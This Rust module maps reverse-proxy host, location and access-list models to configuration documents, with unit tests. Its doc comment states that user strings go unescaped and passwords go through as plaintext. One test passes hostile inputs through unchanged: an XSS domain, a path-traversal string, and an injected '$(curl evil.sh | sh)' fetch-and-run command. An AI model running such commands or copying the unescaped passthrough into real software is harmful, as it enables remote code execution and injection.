//! Mapping from domain objects to the documents read by the proxy engine
//!
//! Every function here is a faithful structural mapping: no I/O, no failure
//! path, and no validation or escaping of user-supplied strings. Domains,
//! paths, URLs and override text reach the document exactly as stored.

use crate::model::{AccessList, Host, Location, LocationAction, StreamPort, Upstream};
use crate::model::{
    DEFAULT_BALANCE_METHOD, DEFAULT_FORWARD_PATH, DEFAULT_FORWARD_SCHEME, DEFAULT_STATUS_CODE,
};
use serde::{Deserialize, Serialize};
use std::collections::{BTreeMap, HashMap};

pub const LISTEN_HTTP: u16 = 80;
pub const LISTEN_HTTPS: u16 = 443;
pub const LISTEN_ADMIN: u16 = 81;
pub const ADMIN_UPSTREAM: &str = "127.0.0.1:3001";
pub const DEFAULT_PAGE: &str = "/data/www/default/index.html";
pub const ERROR_PAGES_DIR: &str = "/data/www/errors";
pub const LOGS_DIR: &str = "/data/logs";
pub const SSL_DIR: &str = "/data/ssl";

/// Settings key that feeds the global document
pub const GLOBAL_WEBHOOK_URL_KEY: &str = "global_webhook_url";

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ListenPorts {
    pub http: u16,
    pub https: u16,
    pub admin: u16,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct GlobalDocument {
    pub listen: ListenPorts,
    pub admin_upstream: String,
    pub default_page: String,
    pub error_pages_dir: String,
    pub logs_dir: String,
    pub ssl_dir: String,
    pub global_webhook_url: String,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct UpstreamDocument {
    pub server: String,
    pub port: u16,
    pub weight: u32,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct SslDocument {
    #[serde(rename = "type")]
    pub kind: String,
    pub force_https: bool,
    pub cert_path: Option<String>,
    pub key_path: Option<String>,
}

/// One location; carries the full field set whatever its type
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct LocationDocument {
    pub path: String,
    #[serde(rename = "matchType")]
    pub match_type: String,
    #[serde(rename = "type")]
    pub kind: String,
    pub upstreams: Vec<UpstreamDocument>,
    #[serde(rename = "balanceMethod")]
    pub balance_method: String,
    #[serde(rename = "staticDir")]
    pub static_dir: String,
    #[serde(rename = "cacheExpires")]
    pub cache_expires: String,
    #[serde(rename = "forwardScheme")]
    pub forward_scheme: String,
    #[serde(rename = "forwardDomain")]
    pub forward_domain: String,
    #[serde(rename = "forwardPath")]
    pub forward_path: String,
    #[serde(rename = "preservePath")]
    pub preserve_path: bool,
    #[serde(rename = "statusCode")]
    pub status_code: u16,
    pub headers: BTreeMap<String, String>,
    pub access_list_id: Option<i64>,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct StreamPortDocument {
    pub port: u16,
    pub protocol: String,
    pub upstreams: Vec<UpstreamDocument>,
    pub balance_method: String,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct HostDocument {
    pub id: i64,
    pub domains: Vec<String>,
    pub group_id: Option<i64>,
    pub ssl: SslDocument,
    pub hsts: bool,
    pub http2: bool,
    pub locations: Vec<LocationDocument>,
    pub stream_ports: Vec<StreamPortDocument>,
    pub advanced_yaml: String,
    pub enabled: bool,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ClientDocument {
    pub address: String,
    pub directive: String,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct AuthDocument {
    pub username: String,
    pub password: String,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct AccessListDocument {
    pub id: i64,
    pub name: String,
    pub satisfy: String,
    pub clients: Vec<ClientDocument>,
    pub auth: Vec<AuthDocument>,
}

pub fn compile_host(host: &Host) -> HostDocument {
    HostDocument {
        id: host.id,
        domains: host.domains.clone(),
        group_id: host.group_id,
        ssl: SslDocument {
            kind: host.ssl.mode.as_str().to_string(),
            force_https: host.ssl.force_https,
            cert_path: host.ssl.cert_path.clone(),
            key_path: host.ssl.key_path.clone(),
        },
        hsts: host.hsts,
        http2: host.http2,
        locations: host.locations.iter().map(compile_location).collect(),
        stream_ports: host.stream_ports.iter().map(compile_stream_port).collect(),
        advanced_yaml: host.advanced_yaml.clone(),
        enabled: host.enabled,
    }
}

fn compile_upstreams(upstreams: &[Upstream]) -> Vec<UpstreamDocument> {
    upstreams
        .iter()
        .map(|u| UpstreamDocument {
            server: u.server.clone(),
            port: u.port,
            weight: u.weight,
        })
        .collect()
}

fn compile_location(location: &Location) -> LocationDocument {
    // Start from the defaults of every variant, then overlay this one
    let mut doc = LocationDocument {
        path: location.path.clone(),
        match_type: location.match_type.as_str().to_string(),
        kind: location.kind().as_str().to_string(),
        upstreams: Vec::new(),
        balance_method: DEFAULT_BALANCE_METHOD.to_string(),
        static_dir: String::new(),
        cache_expires: String::new(),
        forward_scheme: DEFAULT_FORWARD_SCHEME.to_string(),
        forward_domain: String::new(),
        forward_path: DEFAULT_FORWARD_PATH.to_string(),
        preserve_path: true,
        status_code: DEFAULT_STATUS_CODE,
        headers: location.headers.clone(),
        access_list_id: location.access_list_id,
    };

    match &location.action {
        LocationAction::Proxy {
            upstreams,
            balance_method,
        } => {
            doc.upstreams = compile_upstreams(upstreams);
            doc.balance_method = balance_method.clone();
        }
        LocationAction::Static {
            static_dir,
            cache_expires,
        } => {
            doc.static_dir = static_dir.clone();
            doc.cache_expires = cache_expires.clone();
        }
        LocationAction::Redirect {
            forward_scheme,
            forward_domain,
            forward_path,
            preserve_path,
            status_code,
        } => {
            doc.forward_scheme = forward_scheme.clone();
            doc.forward_domain = forward_domain.clone();
            doc.forward_path = forward_path.clone();
            doc.preserve_path = *preserve_path;
            doc.status_code = *status_code;
        }
    }

    doc
}

fn compile_stream_port(stream: &StreamPort) -> StreamPortDocument {
    StreamPortDocument {
        port: stream.port,
        protocol: stream.protocol.as_str().to_string(),
        upstreams: compile_upstreams(&stream.upstreams),
        balance_method: stream.balance_method.clone(),
    }
}

/// Map every access list; passwords are emitted exactly as stored.
pub fn compile_access_lists(lists: &[AccessList]) -> Vec<AccessListDocument> {
    lists
        .iter()
        .map(|list| AccessListDocument {
            id: list.id,
            name: list.name.clone(),
            satisfy: list.satisfy.as_str().to_string(),
            clients: list
                .clients
                .iter()
                .map(|c| ClientDocument {
                    address: c.address.clone(),
                    directive: c.directive.as_str().to_string(),
                })
                .collect(),
            auth: list
                .auth
                .iter()
                .map(|a| AuthDocument {
                    username: a.username.clone(),
                    password: a.password.clone(),
                })
                .collect(),
        })
        .collect()
}

/// Build the global document. Only the webhook URL comes from settings;
/// other keys are ignored.
pub fn compile_global(settings: &HashMap<String, String>) -> GlobalDocument {
    GlobalDocument {
        listen: ListenPorts {
            http: LISTEN_HTTP,
            https: LISTEN_HTTPS,
            admin: LISTEN_ADMIN,
        },
        admin_upstream: ADMIN_UPSTREAM.to_string(),
        default_page: DEFAULT_PAGE.to_string(),
        error_pages_dir: ERROR_PAGES_DIR.to_string(),
        logs_dir: LOGS_DIR.to_string(),
        ssl_dir: SSL_DIR.to_string(),
        global_webhook_url: settings
            .get(GLOBAL_WEBHOOK_URL_KEY)
            .cloned()
            .unwrap_or_default(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::{
        AuthEntry, ClientRule, Directive, HostInput, Satisfy, SslMode, SslSettings,
        StreamProtocol,
    };

    fn host_with(locations: Vec<Location>) -> Host {
        HostInput {
            domains: vec!["example.com".to_string()],
            locations,
            ..HostInput::default()
        }
        .into_host(1)
    }

    #[test]
    fn test_proxy_location_fidelity() {
        let host = host_with(vec![Location::proxy(
            "/",
            vec![Upstream::new("10.0.0.1", 8080)],
        )]);
        let doc = compile_host(&host);

        let location = &doc.locations[0];
        assert_eq!(location.kind, "proxy");
        assert_eq!(
            location.upstreams,
            vec![UpstreamDocument {
                server: "10.0.0.1".to_string(),
                port: 8080,
                weight: 1,
            }]
        );
        assert_eq!(location.balance_method, "round_robin");
    }

    #[test]
    fn test_static_location_fidelity() {
        let host = host_with(vec![Location::static_dir(
            "/assets",
            "/var/www/static",
            "30d",
        )]);
        let doc = compile_host(&host);

        assert_eq!(doc.locations[0].kind, "static");
        assert_eq!(doc.locations[0].static_dir, "/var/www/static");
        assert_eq!(doc.locations[0].cache_expires, "30d");
        assert!(doc.locations[0].upstreams.is_empty());
    }

    #[test]
    fn test_redirect_location_fidelity() {
        let mut location = Location::redirect("/", "new.example.com");
        location.action = LocationAction::Redirect {
            forward_scheme: "https".to_string(),
            forward_domain: "new.example.com".to_string(),
            forward_path: "/new".to_string(),
            preserve_path: false,
            status_code: 302,
        };
        let doc = compile_host(&host_with(vec![location]));

        let location = &doc.locations[0];
        assert_eq!(location.kind, "redirect");
        assert_eq!(location.forward_domain, "new.example.com");
        assert_eq!(location.forward_path, "/new");
        assert!(!location.preserve_path);
        assert_eq!(location.status_code, 302);
    }

    #[test]
    fn test_off_variant_fields_carry_defaults() {
        let doc = compile_host(&host_with(vec![Location::static_dir("/", "/srv", "")]));
        let location = &doc.locations[0];

        assert_eq!(location.balance_method, "round_robin");
        assert_eq!(location.forward_scheme, "https");
        assert_eq!(location.forward_domain, "");
        assert_eq!(location.forward_path, "/");
        assert!(location.preserve_path);
        assert_eq!(location.status_code, 301);
        assert!(location.headers.is_empty());
        assert_eq!(location.access_list_id, None);
    }

    #[test]
    fn test_strings_pass_through_unchanged() {
        let mut host = host_with(vec![Location::proxy(
            "/../../etc\u{0007}",
            vec![Upstream::new("10.0.0.1", 80)],
        )]);
        host.domains = vec!["<script>alert(1)</script>.com".to_string()];
        host.advanced_yaml = "location / { return 200 \"$(curl evil.sh | sh)\"; }".to_string();

        let doc = compile_host(&host);

        assert_eq!(doc.domains, vec!["<script>alert(1)</script>.com"]);
        assert_eq!(doc.locations[0].path, "/../../etc\u{0007}");
        assert_eq!(
            doc.advanced_yaml,
            "location / { return 200 \"$(curl evil.sh | sh)\"; }"
        );
    }

    #[test]
    fn test_stream_only_host() {
        let mut stream = StreamPort::new(
            3306,
            StreamProtocol::Tcp,
            vec![Upstream::new("db.internal", 3306)],
        );
        stream.balance_method = "least_conn".to_string();
        let host = HostInput {
            stream_ports: vec![stream],
            ..HostInput::default()
        }
        .into_host(9);

        let doc = compile_host(&host);

        assert!(doc.locations.is_empty());
        assert_eq!(doc.stream_ports.len(), 1);
        assert_eq!(doc.stream_ports[0].balance_method, "least_conn");
        assert_eq!(doc.stream_ports[0].protocol, "tcp");
        assert_eq!(doc.stream_ports[0].upstreams[0].server, "db.internal");
    }

    #[test]
    fn test_host_fields_and_access_list_rename() {
        let mut location = Location::proxy("/", vec![Upstream::new("10.0.0.1", 80)]);
        location.access_list_id = Some(4);
        location
            .headers
            .insert("X-Robots-Tag".to_string(), "noindex".to_string());

        let mut host = host_with(vec![location]);
        host.group_id = Some(2);
        host.hsts = true;
        host.http2 = true;
        host.enabled = false;
        host.ssl = SslSettings {
            mode: SslMode::Custom,
            force_https: true,
            cert_path: Some("/certs/a.pem".to_string()),
            key_path: Some("/certs/a.key".to_string()),
        };

        let doc = compile_host(&host);
        assert_eq!(doc.group_id, Some(2));
        assert_eq!(doc.ssl.kind, "custom");
        assert!(doc.ssl.force_https);
        assert_eq!(doc.ssl.cert_path.as_deref(), Some("/certs/a.pem"));
        assert!(doc.hsts && doc.http2 && !doc.enabled);

        let yaml = serde_yaml::to_string(&doc).unwrap();
        assert!(yaml.contains("access_list_id: 4"));
        assert!(yaml.contains("matchType: prefix"));
        assert!(yaml.contains("X-Robots-Tag: noindex"));
        assert!(!yaml.contains("accessListId"));
    }

    #[test]
    fn test_duplicate_upstreams_preserved() {
        let upstream = Upstream::new("10.0.0.1", 8080);
        let host = host_with(vec![Location::proxy(
            "/",
            vec![upstream.clone(), upstream],
        )]);

        assert_eq!(compile_host(&host).locations[0].upstreams.len(), 2);
    }

    #[test]
    fn test_access_lists_pass_passwords_through() {
        let lists = vec![AccessList {
            id: 3,
            name: "office".to_string(),
            satisfy: Satisfy::All,
            clients: vec![ClientRule {
                address: "192.168.0.0/16".to_string(),
                directive: Directive::Allow,
            }],
            auth: vec![AuthEntry {
                username: "ops".to_string(),
                password: "plaintext!".to_string(),
            }],
        }];

        let docs = compile_access_lists(&lists);
        assert_eq!(docs.len(), 1);
        assert_eq!(docs[0].satisfy, "all");
        assert_eq!(docs[0].clients[0].directive, "allow");
        assert_eq!(docs[0].auth[0].password, "plaintext!");
        assert!(compile_access_lists(&[]).is_empty());
    }

    #[test]
    fn test_global_defaults() {
        let doc = compile_global(&HashMap::new());

        assert_eq!(
            doc.listen,
            ListenPorts {
                http: 80,
                https: 443,
                admin: 81,
            }
        );
        assert_eq!(doc.admin_upstream, "127.0.0.1:3001");
        assert_eq!(doc.global_webhook_url, "");
    }

    #[test]
    fn test_global_webhook_overrides_only_that_field() {
        let mut settings = HashMap::new();
        settings.insert(
            "global_webhook_url".to_string(),
            "https://hooks.example.com/x".to_string(),
        );
        settings.insert("watchdog_interval".to_string(), "60".to_string());

        let doc = compile_global(&settings);
        let defaults = compile_global(&HashMap::new());

        assert_eq!(doc.global_webhook_url, "https://hooks.example.com/x");
        assert_eq!(
            GlobalDocument {
                global_webhook_url: String::new(),
                ..doc
            },
            defaults
        );
    }
}
